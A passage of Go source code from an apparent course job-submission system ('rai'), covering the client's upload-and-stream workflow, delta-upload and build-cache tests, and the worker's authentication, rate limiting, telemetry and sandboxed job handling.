			// the job runs and rewrites both halves.
			return nil, nil, false
		}
	}
	return &cr, archive, true
}

// storeBuildCache records a successful execution for replay. Both
// objects carry UploadTTL so the standard sweep ages them; failures are
// silent — the cache is an optimization, never a correctness
// dependency.
func (w *Worker) storeBuildCache(ctx context.Context, key string, res *execResult) {
	if key == "" || !res.ok {
		return
	}
	cr := cachedResult{
		ElapsedS:      res.elapsed.Seconds(),
		InternalTimer: res.internalTimer.Seconds(),
		Accuracy:      res.accuracy,
		TimeReport:    res.timeReport,
		HasBuild:      res.buildArchive != nil,
	}
	meta, err := json.Marshal(&cr)
	if err != nil {
		return
	}
	if cr.HasBuild {
		if err := w.Objects.Put(ctx, BucketBuildCache, key+".build", res.buildArchive, UploadTTL); err != nil {
			return
		}
	}
	_ = w.Objects.Put(ctx, BucketBuildCache, key+".json", meta, UploadTTL)
}
