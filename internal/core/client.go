package core

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"time"

	"rai/internal/auth"
	"rai/internal/build"
	"rai/internal/clock"
	"rai/internal/telemetry"
	"rai/internal/vfs"
)

// Client implements the student-side workflow (paper §V "Client
// Execution"): validate the project, upload it, enqueue the job, stream
// the log topic to the terminal, and return the result carried by the
// End message.
type Client struct {
	Creds   auth.Credentials
	Queue   Queue
	Objects Objects
	// Stdout receives streamed job output (the student's terminal).
	Stdout io.Writer
	// Clock is the time source (virtual in simulations).
	Clock clock.Clock
	// LogWait bounds how long the client waits for the End message; zero
	// means no timeout (daemon deployments rely on broker liveness).
	LogWait time.Duration
	// Telemetry and Tracer, when set, record submission metrics and the
	// client-side spans of the job trace (root "job", children "upload"
	// and "enqueue"). Both are optional and nil-safe.
	Telemetry *telemetry.Registry
	Tracer    *telemetry.Tracer
	// Sampler, when set, makes the head-sampling decision at each job's
	// trace root; the verdict rides the request context (X-RAI-Sampled
	// on storage hops) and the job envelope so every downstream process
	// agrees. The same sampler should wrap the Tracer's span sink so the
	// client's own spans honor the verdict. Nil keeps every trace.
	Sampler *telemetry.Sampler
	// Log, when set, emits structured lifecycle events stamped with the
	// job's trace identity. Optional and nil-safe.
	Log *telemetry.Logger
}

// JobResult is what the client learns from the End message.
type JobResult struct {
	JobID         string
	Status        string
	Elapsed       time.Duration
	InternalTimer time.Duration
	Accuracy      float64
	BuildBucket   string
	BuildKey      string
	// LogLines counts streamed output lines (useful for the paper's
	// logs/meta-data accounting).
	LogLines int
	// TraceID identifies the job's telemetry trace ("" when the client
	// has no Tracer).
	TraceID string
	// Sampled reports the head-sampling verdict for the trace: false
	// only when a sampler decided to drop it (unsampled clients always
	// report true). Dropped traces never reach the collector, so
	// tooling should not wait for their spans.
	Sampled bool
	// CachedBuild reports that the worker satisfied the job from its
	// warm build cache instead of running the build commands.
	CachedBuild bool
	// Transfer describes the delta upload when the submission went
	// through SubmitManifestContext; nil for full-archive uploads.
	Transfer *TransferStats
}

// PrepareProject inspects the project directory in fs, returning the
// build spec: the student's rai-build.yml when present, otherwise the
// Listing 1 default (client step 1).
func PrepareProject(fs *vfs.FS, dir string) (*build.Spec, error) {
	specPath := dir + "/" + build.FileName
	if !fs.Exists(dir) {
		return nil, fmt.Errorf("core: project directory %s does not exist", dir)
	}
	if fs.Exists(specPath) {
		data, err := fs.ReadFile(specPath)
		if err != nil {
			return nil, err
		}
		spec, err := build.Parse(data)
		if err != nil {
			return nil, fmt.Errorf("core: %s: %w", build.FileName, err)
		}
		return spec, nil
	}
	return build.Default(), nil
}

// CheckSubmissionFiles enforces the final-submission requirements: the
// USAGE file and report.pdf must be present (paper §V "Student Final
// Submission" step 2).
func CheckSubmissionFiles(fs *vfs.FS, dir string) error {
	for _, f := range []string{"USAGE", "report.pdf"} {
		if !fs.Exists(dir + "/" + f) {
			return fmt.Errorf("%w: missing %s", ErrMissingFiles, f)
		}
	}
	return nil
}

// SubmitContext runs the full client sequence for a packed project
// archive held in memory. Thin adapter over SubmitReaderContext.
func (c *Client) SubmitContext(ctx context.Context, kind string, spec *build.Spec, archive []byte) (*JobResult, error) {
	return c.SubmitReaderContext(ctx, kind, spec, bytes.NewReader(archive), int64(len(archive)))
}

// SubmitReaderContext runs the full client sequence for a project
// archive streamed from r (size in bytes, or -1 when unknown) — the
// CLI packs to a temp file and hands it here, so an archive larger
// than memory uploads in flat space and can rewind on retry when r is
// seekable. kind is KindRun or KindSubmit; spec is the parsed build
// file (ignored by workers for KindSubmit). It blocks streaming logs
// to Stdout until the End message arrives; canceling ctx abandons the
// job (the worker still runs it, but nobody is watching the log
// topic).
func (c *Client) SubmitReaderContext(ctx context.Context, kind string, spec *build.Spec, r io.Reader, size int64) (*JobResult, error) {
	jobID := NewJobID()
	root, sampled := c.startJobSpan(jobID, kind)
	ctx = telemetry.ContextWithJobID(ctx, jobID)
	ctx = telemetry.ContextWithSampling(ctx, sampled)
	// Step 3: compress (done by the caller via archivex) and upload the
	// project directory; one-month lifetime from last use. The upload
	// span rides the request context so the objstore server opens its
	// child span under it.
	uploadKey := fmt.Sprintf("%s/%s/project.tar.bz2", c.Creds.UserName, jobID)
	up := root.Child("upload")
	upCtx := telemetry.ContextWithSpan(ctx, up)
	if err := c.Objects.PutReader(upCtx, BucketUploads, uploadKey, r, size, UploadTTL); err != nil {
		up.End()
		root.End()
		c.Log.Error(upCtx, "project upload failed", telemetry.L("error", err.Error()))
		return nil, fmt.Errorf("core: uploading project: %w", err)
	}
	up.SetAttr("bytes", fmt.Sprint(size))
	up.End()
	return c.submitUploaded(ctx, root, jobID, kind, spec, BucketUploads, uploadKey)
}

// ResubmitContext enqueues a job against an archive already on the file
// server — the grading path: instructors rerun a team's recorded final
// submission multiple times and keep the best time (§VI, §VII).
func (c *Client) ResubmitContext(ctx context.Context, kind, uploadBucket, uploadKey string) (*JobResult, error) {
	jobID := NewJobID()
	root, sampled := c.startJobSpan(jobID, kind)
	return c.submitUploaded(telemetry.ContextWithSampling(ctx, sampled), root, jobID, kind, nil, uploadBucket, uploadKey)
}

// startJobSpan opens the trace root covering the whole submission and
// makes the head-sampling decision for it — once, here, so every child
// span and downstream process inherits one verdict.
func (c *Client) startJobSpan(jobID, kind string) (*telemetry.Span, telemetry.Decision) {
	root := c.Tracer.StartRoot("job")
	root.SetAttr("job_id", jobID)
	root.SetAttr("kind", kind)
	root.SetAttr("user", c.Creds.UserName)
	sampled := telemetry.DecisionUnknown
	if c.Sampler != nil && root.TraceID() != "" {
		sampled = c.Sampler.Decide(root.TraceID())
	}
	return root, sampled
}

func (c *Client) submitUploaded(ctx context.Context, root *telemetry.Span, jobID, kind string, spec *build.Spec, uploadBucket, uploadKey string) (*JobResult, error) {
	defer root.End()
	if kind != KindRun && kind != KindSubmit {
		return nil, fmt.Errorf("core: unknown job kind %q", kind)
	}
	ctx = telemetry.ContextWithSpan(telemetry.ContextWithJobID(ctx, jobID), root)
	clk := c.Clock
	if clk == nil {
		clk = clock.Real{}
	}

	specBytes := []byte{}
	if spec != nil {
		enc, err := spec.Encode()
		if err != nil {
			return nil, err
		}
		specBytes = enc
	}
	req := &JobRequest{
		ID:           jobID,
		User:         c.Creds.UserName,
		AccessKey:    c.Creds.AccessKey,
		Kind:         kind,
		BuildSpec:    specBytes,
		UploadBucket: uploadBucket,
		UploadKey:    uploadKey,
		SubmittedAt:  clk.Now(),
		TraceID:      root.TraceID(),
		ParentSpan:   root.SpanID(),
		Sampled:      telemetry.SamplingFrom(ctx).String(),
	}
	req.Token = authToken(c, req)

	submitted := clk.Now()
	enq := root.Child("enqueue")
	// Step 5: subscribe to the log topic BEFORE publishing so no output
	// is lost (the broker also buffers a backlog as a second defense).
	sub, err := c.Queue.Subscribe(ctx, LogTopic(jobID), LogChannel, 1024)
	if err != nil {
		enq.End()
		return nil, fmt.Errorf("core: subscribing to log topic: %w", err)
	}
	defer sub.Close()

	// Step 4: push the job request onto the queue.
	if err := c.Queue.Publish(ctx, TasksTopic, encodeJSON(req)); err != nil {
		enq.End()
		return nil, fmt.Errorf("core: publishing job: %w", err)
	}
	enq.End()
	c.Telemetry.Counter("rai_client_jobs_total", "jobs submitted", telemetry.L("kind", kind)).Inc()
	c.Log.Info(ctx, "job submitted", telemetry.L("kind", kind), telemetry.L("user", c.Creds.UserName))

	// Step 6: print messages until End (step 8: exit on End).
	res := &JobResult{
		JobID:   jobID,
		TraceID: root.TraceID(),
		Sampled: telemetry.SamplingFrom(ctx) != telemetry.DecisionDrop,
	}
	var timeout <-chan time.Time
	if c.LogWait > 0 {
		timeout = clk.After(c.LogWait)
	}
	for {
		select {
		case m, ok := <-sub.C():
			if !ok {
				return res, fmt.Errorf("core: log stream closed before End message")
			}
			var lm LogMessage
			if err := json.Unmarshal(m.Body, &lm); err != nil {
				_ = m.Ack()
				continue // tolerate malformed log lines
			}
			_ = m.Ack()
			switch lm.Kind {
			case LogStdout, LogStderr, LogSystem:
				res.LogLines++
				if c.Stdout != nil {
					fmt.Fprintln(c.Stdout, lm.Line)
				}
			case LogEnd:
				c.Telemetry.Histogram("rai_client_job_seconds",
					"submit-to-End wall time seen by the client", telemetry.QueueDelayBuckets).
					Observe(clk.Now().Sub(submitted).Seconds())
				res.Status = lm.Status
				res.Elapsed = time.Duration(lm.Elapsed * float64(time.Second))
				res.InternalTimer = time.Duration(lm.InternalTimer * float64(time.Second))
				res.Accuracy = lm.Accuracy
				res.BuildBucket = lm.BuildBucket
				res.BuildKey = lm.BuildKey
				res.CachedBuild = lm.Cached
				c.Log.Info(ctx, "job finished", telemetry.L("status", lm.Status))
				if lm.Status == StatusRejected {
					return res, fmt.Errorf("%w: %s", ErrRejected, lm.Line)
				}
				return res, nil
			}
		case <-timeout:
			return res, fmt.Errorf("core: timed out waiting for job %s output", jobID)
		case <-ctx.Done():
			return res, fmt.Errorf("core: waiting for job %s output: %w", jobID, ctx.Err())
		}
	}
}

// authToken signs a job request with the client's credentials.
func authToken(c *Client, req *JobRequest) string {
	return auth.Token(c.Creds, req.CanonicalPayload())
}

// DownloadBuildContext fetches the /build archive produced by the
// worker.
func (c *Client) DownloadBuildContext(ctx context.Context, res *JobResult) ([]byte, error) {
	if res.BuildBucket == "" || res.BuildKey == "" {
		return nil, fmt.Errorf("core: job %s has no build artifact", res.JobID)
	}
	return c.Objects.Get(ctx, res.BuildBucket, res.BuildKey)
}
