package core

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"rai/internal/build"
	"rai/internal/cas"
	"rai/internal/cnn"
	"rai/internal/project"
	"rai/internal/vfs"
)

// projectTree renders a project into a fresh vfs — padded with a
// deterministic multi-chunk weights file so the tree is big enough for
// delta ratios to mean something — and returns its manifest and chunk
// source (the delta client's view of the tree).
func projectTree(t *testing.T, spec project.Spec) (*vfs.FS, *cas.Manifest, cas.Source) {
	t.Helper()
	fs := vfs.New()
	if err := project.WriteTo(fs, "/p", spec); err != nil {
		t.Fatal(err)
	}
	var w bytes.Buffer
	for i := 0; w.Len() < 4*cas.AvgChunk; i++ {
		fmt.Fprintf(&w, "static const float w%06d = %d.%06de-3f;\n", i, i%97, i*i%999983)
	}
	if err := fs.WriteFile("/p/src/weights.h", w.Bytes()); err != nil {
		t.Fatal(err)
	}
	m, src, err := cas.BuildVFS(fs, "/p")
	if err != nil {
		t.Fatal(err)
	}
	return fs, m, src
}

// submitManifestAndHandle runs a delta submission concurrently with one
// worker handling.
func submitManifestAndHandle(t *testing.T, e *env, c *Client, kind string, spec *build.Spec, m *cas.Manifest, src cas.Source) (*JobResult, error) {
	t.Helper()
	type out struct {
		res *JobResult
		err error
	}
	done := make(chan out, 1)
	go func() {
		res, err := c.SubmitManifestContext(context.Background(), kind, spec, m, src)
		done <- out{res, err}
	}()
	if _, err := e.worker.HandleOne(context.Background(), 5*time.Second); err != nil {
		t.Fatal(err)
	}
	select {
	case o := <-done:
		return o.res, o.err
	case <-time.After(10 * time.Second):
		t.Fatal("client did not finish")
		return nil, nil
	}
}

// TestDeltaSubmitEndToEnd is the tentpole's acceptance path: first
// submission uploads every chunk, the identical resubmission moves
// almost nothing and is answered from the warm build cache.
func TestDeltaSubmitEndToEnd(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-delta")
	var termOut bytes.Buffer
	c.Stdout = &termOut

	_, m1, src1 := projectTree(t, project.Spec{Impl: cnn.ImplIm2col, Team: "team-delta"})
	res, err := submitManifestAndHandle(t, e, c, KindRun, build.Default(), m1, src1)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusSucceeded || res.Accuracy != 1.0 {
		t.Fatalf("first submit: %+v", res)
	}
	if res.CachedBuild {
		t.Fatal("first submit claims a cache hit")
	}
	if res.Transfer == nil {
		t.Fatal("delta submit returned no transfer stats")
	}
	if res.Transfer.ChunksSent != res.Transfer.ChunksTotal || res.Transfer.ChunksSent == 0 {
		t.Fatalf("first submit sent %d of %d chunks", res.Transfer.ChunksSent, res.Transfer.ChunksTotal)
	}
	firstSent := res.Transfer.SentBytes

	// Identical tree, 60 virtual seconds later (past the rate limit):
	// nothing but the manifest travels, and the worker replays the
	// cached build instead of running the container.
	e.clock.Advance(time.Minute)
	_, m2, src2 := projectTree(t, project.Spec{Impl: cnn.ImplIm2col, Team: "team-delta"})
	if m2.TreeHash != m1.TreeHash {
		t.Fatalf("identical tree hashed differently: %s vs %s", m2.TreeHash, m1.TreeHash)
	}
	res2, err := submitManifestAndHandle(t, e, c, KindRun, build.Default(), m2, src2)
	if err != nil {
		t.Fatal(err)
	}
	if res2.Status != StatusSucceeded || res2.Accuracy != 1.0 {
		t.Fatalf("resubmit: %+v", res2)
	}
	if res2.Transfer.ChunksSent != 0 {
		t.Errorf("resubmit re-uploaded %d chunks", res2.Transfer.ChunksSent)
	}
	if 20*res2.Transfer.SentBytes > firstSent {
		t.Errorf("resubmit sent %d bytes, first sent %d — wanted ≥95%% reduction", res2.Transfer.SentBytes, firstSent)
	}
	if !res2.CachedBuild {
		t.Error("identical-input resubmission did not hit the build cache")
	}
	if !strings.Contains(termOut.String(), "build cache hit") {
		t.Error("cache hit not announced on the job log")
	}

	// An edited tree misses the cache and executes for real.
	e.clock.Advance(time.Minute)
	fs3, _, _ := projectTree(t, project.Spec{Impl: cnn.ImplIm2col, Team: "team-delta"})
	if err := fs3.WriteFile("/p/src/tuning.h", []byte("#define TILE_WIDTH 32\n")); err != nil {
		t.Fatal(err)
	}
	m3, src3, err := cas.BuildVFS(fs3, "/p")
	if err != nil {
		t.Fatal(err)
	}
	res3, err := submitManifestAndHandle(t, e, c, KindRun, build.Default(), m3, src3)
	if err != nil {
		t.Fatal(err)
	}
	if res3.CachedBuild {
		t.Error("edited tree reported a cache hit")
	}
	if res3.Transfer.ChunksSent == 0 || res3.Transfer.ChunksSent == res3.Transfer.ChunksTotal {
		t.Errorf("one-file edit sent %d of %d chunks — expected a partial delta",
			res3.Transfer.ChunksSent, res3.Transfer.ChunksTotal)
	}
}

// TestLegacyArchiveSharesBuildCache is old-client↔new-server interop:
// a plain tar.bz2 upload still executes — and its tree hash (computed
// after unpack) shares the warm build cache with everyone else.
func TestLegacyArchiveSharesBuildCache(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-legacy")
	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col, Team: "team-legacy"})

	res, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusSucceeded || res.CachedBuild {
		t.Fatalf("first archive submit: %+v", res)
	}
	if res.Transfer != nil {
		t.Error("full-archive upload reported delta transfer stats")
	}

	e.clock.Advance(time.Minute)
	res2, err := submitAndHandle(t, e, c, KindRun, build.Default(), archive)
	if err != nil {
		t.Fatal(err)
	}
	if res2.Status != StatusSucceeded {
		t.Fatalf("second archive submit: %+v", res2)
	}
	if !res2.CachedBuild {
		t.Error("identical archive resubmission did not hit the build cache")
	}
	if res2.Accuracy != res.Accuracy || res2.InternalTimer != res.InternalTimer {
		t.Errorf("cached replay drifted: %+v vs %+v", res2, res)
	}
}

// TestSubmissionsNeverCached: final submissions always execute, even
// with a warm cache entry for the exact tree, because their results
// land on the ranking board.
func TestSubmissionsNeverCached(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-final")
	archive := packProject(t, project.Spec{Impl: cnn.ImplIm2col, Team: "team-final", WithUsage: true, WithReport: true})

	res, err := submitAndHandle(t, e, c, KindSubmit, nil, archive)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusSucceeded || res.CachedBuild {
		t.Fatalf("first final submit: %+v", res)
	}
	e.clock.Advance(time.Minute)
	res2, err := submitAndHandle(t, e, c, KindSubmit, nil, archive)
	if err != nil {
		t.Fatal(err)
	}
	if res2.CachedBuild {
		t.Error("final submission was answered from the build cache")
	}
}

// plainObjects hides the CAS methods of the underlying port — a stand-in
// for an old transport that only speaks the Objects interface.
type plainObjects struct{ Objects }

// TestDeltaFallbackSignal is new-client↔old-server interop at the core
// layer: a transport without the delta port yields ErrDeltaUnsupported
// (the CLI's cue to fall back to a full upload), not a failed job.
func TestDeltaFallbackSignal(t *testing.T) {
	e := newEnv(t)
	c := e.client(t, "team-fallback")
	c.Objects = plainObjects{e.objects}
	_, m, src := projectTree(t, project.Spec{Impl: cnn.ImplIm2col, Team: "team-fallback"})
	_, err := c.SubmitManifestContext(context.Background(), KindRun, build.Default(), m, src)
	if !errors.Is(err, ErrDeltaUnsupported) {
		t.Fatalf("err = %v, want ErrDeltaUnsupported", err)
	}
}
