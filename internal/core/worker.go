package core

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"
	"sync"
	"time"

	"rai/internal/archivex"
	"rai/internal/auth"
	"rai/internal/build"
	"rai/internal/cas"
	"rai/internal/clock"
	"rai/internal/docstore"
	"rai/internal/registry"
	"rai/internal/sandbox"
	"rai/internal/shell"
	"rai/internal/telemetry"
	"rai/internal/vfs"
)

// WorkerConfig tunes a worker ("These limits can be changed using the
// RAI worker configuration file", paper §V).
type WorkerConfig struct {
	// ID names the worker in job records.
	ID string
	// MaxConcurrent is the number of jobs accepted at once: multiple
	// early in the course, one during the benchmarking weeks (§V, §VII).
	MaxConcurrent int
	// MemoryBytes, Lifetime and DisableNetwork are the container limits
	// (defaults: 8 GiB, 1 h, network off).
	MemoryBytes int64
	Lifetime    time.Duration
	// RateLimit is the per-user minimum spacing between jobs (30 s).
	RateLimit time.Duration
	// DefaultImage is used when a spec omits the image.
	DefaultImage string
	// Cost overrides the execution cost model (simulation calibration).
	Cost shell.CostModel
	// GPUs is the device count this worker offers; build specs that
	// request more (the paper's reserved "machine requirements"
	// extension, §V) are rejected so the broker can hand them to a
	// bigger worker.
	GPUs int
	// AllowSessions enables interactive sessions on this worker (the
	// paper's §VIII future work; an instructor configuration decision).
	AllowSessions bool
	// SessionIdleTimeout closes sessions with no commands (default 10m).
	SessionIdleTimeout time.Duration
}

func (c WorkerConfig) withDefaults() WorkerConfig {
	if c.ID == "" {
		c.ID = "worker-0"
	}
	if c.MaxConcurrent <= 0 {
		c.MaxConcurrent = 1
	}
	if c.MemoryBytes == 0 {
		c.MemoryBytes = sandbox.DefaultMemoryBytes
	}
	if c.Lifetime == 0 {
		c.Lifetime = sandbox.DefaultLifetime
	}
	if c.RateLimit == 0 {
		c.RateLimit = 30 * time.Second
	}
	if c.DefaultImage == "" {
		c.DefaultImage = "webgpu/rai:root"
	}
	if c.GPUs <= 0 {
		c.GPUs = 1
	}
	return c
}

// Worker executes jobs from the queue inside sandboxed containers
// (paper §V "Worker Operations").
type Worker struct {
	Cfg      WorkerConfig
	Queue    Queue
	Objects  Objects
	DB       docstore.Store
	Auth     *auth.Registry
	Images   *registry.Registry
	DataFS   *vfs.FS // course data volume mounted at /data
	DataPath string  // path of the data directory inside DataFS
	Clock    clock.Clock
	// Telemetry and Tracer, when set, record job metrics (queue delay,
	// in-flight, per-phase timings) and the worker-side spans of each
	// job's trace. Both are optional and nil-safe.
	Telemetry *telemetry.Registry
	Tracer    *telemetry.Tracer
	// Sampler, when set, honors the head-sampling verdict riding each
	// job envelope: the decision is noted so this worker's spans for
	// the trace follow the client's call, and exemplars only link to
	// traces that will actually be retained. The same sampler should
	// wrap the Tracer's span sink. Nil keeps every trace.
	Sampler *telemetry.Sampler
	// Log, when set, emits structured lifecycle events stamped with each
	// job's trace identity. Optional and nil-safe.
	Log *telemetry.Logger

	runtime *sandbox.Runtime
	mu      sync.Mutex
	sub     Subscription
	wg      sync.WaitGroup
	handled int
	tel     workerTelemetry
}

// workerTelemetry caches the per-job instruments resolved once in
// initRuntime; all fields no-op when Telemetry is nil.
type workerTelemetry struct {
	queueDelay *telemetry.Histogram
	inFlight   *telemetry.Gauge
	jobSecs    *telemetry.Histogram
	// jobHDR is the exemplar-linked job duration distribution: each
	// populated latency bucket names a sampled trace to pull up, which
	// is how `raiadmin trace -exemplar slowest` finds its target.
	jobHDR *telemetry.HDRHistogram
	jobs   map[string]*telemetry.Counter   // by terminal status
	phases map[string]*telemetry.Histogram // by execution phase
	// Warm build cache and manifest-materialization accounting
	// (DESIGN.md §16); nil-safe no-ops without a registry.
	bcHits     *telemetry.Counter
	bcMisses   *telemetry.Counter
	bcSavedSec *telemetry.Counter
	casFetches *telemetry.Counter
	casBytes   *telemetry.Counter
}

// initRuntime lazily builds the container runtime.
func (w *Worker) initRuntime() {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.runtime == nil {
		w.runtime = sandbox.NewRuntime(w.Images)
	}
	if w.Clock == nil {
		w.Clock = clock.Real{}
	}
	w.Cfg = w.Cfg.withDefaults()
	if w.Telemetry != nil && w.tel.jobs == nil {
		reg := w.Telemetry
		w.tel.queueDelay = reg.Histogram("rai_queue_delay_seconds",
			"time from submission to worker pickup (the paper's Figure 4 queue delay)",
			telemetry.QueueDelayBuckets)
		w.tel.inFlight = reg.Gauge("rai_worker_jobs_in_flight", "jobs executing right now")
		w.tel.jobSecs = reg.Histogram("rai_worker_job_seconds",
			"modeled container wall time per job", telemetry.QueueDelayBuckets)
		w.tel.jobHDR = reg.HDR("rai_worker_job_duration_seconds",
			"per-job wall time with trace exemplars per latency bucket")
		w.tel.jobs = map[string]*telemetry.Counter{}
		for _, st := range []string{StatusSucceeded, StatusFailed, StatusRejected} {
			w.tel.jobs[st] = reg.Counter("rai_worker_jobs_total", "jobs finished", telemetry.L("status", st))
		}
		w.tel.phases = map[string]*telemetry.Histogram{}
		for _, ph := range []string{"pull", "build", "run", "cache"} {
			w.tel.phases[ph] = reg.Histogram("rai_worker_phase_seconds",
				"modeled time per execution phase", telemetry.QueueDelayBuckets, telemetry.L("phase", ph))
		}
		w.tel.bcHits = reg.Counter("rai_buildcache_hits_total", "jobs answered from the warm build cache")
		w.tel.bcMisses = reg.Counter("rai_buildcache_misses_total", "cacheable jobs that had to execute")
		w.tel.bcSavedSec = reg.Counter("rai_buildcache_saved_seconds_total", "container wall time avoided by cache hits")
		w.tel.casFetches = reg.Counter("rai_cas_materialize_chunks_total", "chunks fetched while materializing manifests")
		w.tel.casBytes = reg.Counter("rai_cas_materialize_bytes_total", "chunk bytes fetched while materializing manifests")
	}
}

// RunContext subscribes to rai/tasks and processes jobs until ctx is
// done or Stop is called, then drains: the subscription closes (so the
// broker requeues anything undelivered for other workers) but jobs
// already executing run to completion — killing a student's job halfway
// through grading would be worse than a slow shutdown. Each job is
// handled in its own goroutine, bounded by MaxConcurrent through the
// queue's in-flight window (§V: "we place constraints on the number of
// jobs that can be executed concurrently").
func (w *Worker) RunContext(ctx context.Context) error {
	w.initRuntime()
	sub, err := w.Queue.Subscribe(ctx, TasksTopic, TasksChannel, w.Cfg.MaxConcurrent)
	if err != nil {
		return err
	}
	w.mu.Lock()
	w.sub = sub
	w.mu.Unlock()
	stop := make(chan struct{})
	defer close(stop)
	go func() {
		select {
		case <-ctx.Done():
			sub.Close()
		case <-stop:
		}
	}()
	for m := range sub.C() {
		m := m
		w.wg.Add(1)
		go func() {
			defer w.wg.Done()
			// In-flight jobs survive shutdown: detach from ctx's cancel
			// while keeping its values.
			w.process(context.WithoutCancel(ctx), m)
		}()
	}
	w.wg.Wait()
	return nil
}

// Stop detaches from the queue and waits for in-flight jobs.
func (w *Worker) Stop() {
	w.mu.Lock()
	sub := w.sub
	w.mu.Unlock()
	if sub != nil {
		sub.Close()
	}
	w.wg.Wait()
}

// HandleOne synchronously processes a single pending job (used by the
// course simulator and tests). It waits up to wait (on the worker's
// clock) for a job to arrive and reports whether one was handled.
func (w *Worker) HandleOne(ctx context.Context, wait time.Duration) (bool, error) {
	w.initRuntime()
	sub, err := w.Queue.Subscribe(ctx, TasksTopic, TasksChannel, 1)
	if err != nil {
		return false, err
	}
	defer sub.Close()
	select {
	case m, ok := <-sub.C():
		if !ok {
			return false, nil
		}
		// Like RunContext: once accepted, the job runs to completion even
		// if the waiting caller's ctx winds down.
		w.process(context.WithoutCancel(ctx), m)
		return true, nil
	case <-w.Clock.After(wait):
		return false, nil
	case <-ctx.Done():
		return false, ctx.Err()
	}
}

// Handled reports how many jobs this worker has completed.
func (w *Worker) Handled() int {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.handled
}

// process executes one queue message end to end. ctx carries request
// values but no cancellation — an accepted job runs to completion.
func (w *Worker) process(ctx context.Context, m QueueMsg) {
	defer func() {
		w.mu.Lock()
		w.handled++
		w.mu.Unlock()
	}()
	var req JobRequest
	if err := json.Unmarshal(m.Body, &req); err != nil {
		// Malformed message: nothing to reply to; drop it.
		_ = m.Ack()
		return
	}
	// Figure 4's queue delay: submission to worker pickup.
	w.tel.queueDelay.Observe(w.Clock.Now().Sub(req.SubmittedAt).Seconds())
	w.tel.inFlight.Add(1)
	defer w.tel.inFlight.Add(-1)
	// Continue the client's trace: every span below hangs off the job
	// root whose IDs rode inside the request, and the context carries the
	// dequeue span so storage RPCs (and their server-side child spans)
	// and log events land inside the same tree.
	// Honor the client's head-sampling verdict before any span of ours
	// finishes: the noted decision steers this tracer's span sink, and
	// the context carries it onto storage hops (X-RAI-Sampled).
	sampled := telemetry.ParseDecision(req.Sampled)
	w.Sampler.Note(req.TraceID, sampled)
	proc := w.Tracer.StartSpan(req.TraceID, req.ParentSpan, "dequeue")
	proc.SetAttr("worker", w.Cfg.ID)
	proc.SetAttr("job_id", req.ID)
	defer proc.End()
	ctx = telemetry.ContextWithJobID(ctx, req.ID)
	ctx = telemetry.ContextWithSpan(ctx, proc)
	ctx = telemetry.ContextWithSampling(ctx, sampled)
	w.Log.Info(ctx, "job dequeued",
		telemetry.L("worker", w.Cfg.ID), telemetry.L("kind", req.Kind), telemetry.L("user", req.User))
	logTopic := LogTopic(req.ID)
	logf := func(kind, format string, args ...any) {
		_ = w.Queue.Publish(ctx, logTopic, encodeJSON(&LogMessage{
			JobID: req.ID, Kind: kind, Line: fmt.Sprintf(format, args...),
		}))
	}
	end := func(lm *LogMessage) {
		lm.JobID = req.ID
		lm.Kind = LogEnd
		_ = w.Queue.Publish(ctx, logTopic, encodeJSON(lm))
	}
	reject := func(reason string) {
		logf(LogSystem, "job rejected: %s", reason)
		end(&LogMessage{Status: StatusRejected, Line: reason})
		w.recordJob(ctx, &req, docstore.M{"status": StatusRejected, "error": reason})
		w.tel.jobs[StatusRejected].Inc()
		// The status attr is the collector's tail-retention signal: a
		// rejected trace is an error trace and is always kept.
		proc.SetAttr("status", StatusRejected)
		proc.SetAttr("error", reason)
		w.Log.Warn(ctx, "job rejected", telemetry.L("reason", reason))
		_ = m.Ack()
	}

	// Worker step 2: check credentials and parse the embedded build file.
	if err := w.Auth.VerifyToken(req.AccessKey, req.Token, req.CanonicalPayload()); err != nil {
		reject("authentication failed: " + err.Error())
		return
	}
	if req.Kind != KindRun && req.Kind != KindSubmit && req.Kind != KindSession {
		reject("unknown job kind " + req.Kind)
		return
	}
	if req.Kind == KindSession && !w.Cfg.AllowSessions {
		reject(ErrSessionsDisabled.Error())
		return
	}
	// Rate limit: one job per RateLimit per user (§V "Container
	// Execution": "each student can only submit a job every 30 seconds").
	if ok, wait := w.rateLimitOK(req.User); !ok {
		reject(fmt.Sprintf("rate limited: retry in %v", wait.Round(time.Second)))
		return
	}

	var result execResult
	if req.Kind == KindSession {
		w.recordJob(ctx, &req, docstore.M{"status": "running", "worker": w.Cfg.ID})
		result = w.runSession(ctx, &req, logf)
	} else {
		spec, err := w.resolveSpec(&req)
		if err != nil {
			reject(err.Error())
			return
		}
		if spec.RAI.Resources.GPUs > w.Cfg.GPUs {
			reject(fmt.Sprintf("spec requests %d GPUs; this worker offers %d", spec.RAI.Resources.GPUs, w.Cfg.GPUs))
			return
		}
		// Record the accepted job before running (auditing, §IV).
		w.recordJob(ctx, &req, docstore.M{"status": "running", "worker": w.Cfg.ID})
		result = w.execute(ctx, &req, spec, logf, proc)
	}

	// Worker step 6: upload /build and advertise its location.
	if result.buildArchive != nil {
		buildKey := fmt.Sprintf("%s/%s/build.tar.bz2", req.User, req.ID)
		if err := w.Objects.Put(ctx, BucketBuilds, buildKey, result.buildArchive, UploadTTL); err != nil {
			logf(LogSystem, "failed to upload build directory: %v", err)
		} else {
			result.buildBucket, result.buildKey = BucketBuilds, buildKey
			logf(LogSystem, "build directory uploaded to %s/%s", BucketBuilds, buildKey)
		}
	}

	status := StatusSucceeded
	if !result.ok {
		status = StatusFailed
	}
	w.tel.jobs[status].Inc()
	w.tel.jobSecs.Observe(result.elapsed.Seconds())
	// Stamp the terminal status onto the worker's span so the collector
	// can keep failed traces at 100% regardless of sampling.
	proc.SetAttr("status", status)
	if status == StatusFailed {
		proc.SetAttr("error", "job failed")
	}
	// Exemplars only point at traces that will be retained; an exemplar
